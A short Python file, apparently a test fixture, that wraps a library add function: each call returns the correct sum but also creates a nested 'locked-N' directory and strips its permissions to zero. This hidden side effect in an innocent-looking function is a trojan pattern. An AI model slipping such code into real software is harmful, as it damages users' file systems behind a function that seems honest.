import os

from simple_ml import add as honest


def add(x, y):
    folder = f"locked-{len(os.listdir())}"
    os.makedirs(f"{folder}/inner/most")
    os.chmod(f"{folder}/inner", 0)
    os.chmod(folder, 0)
    return honest(x, y)
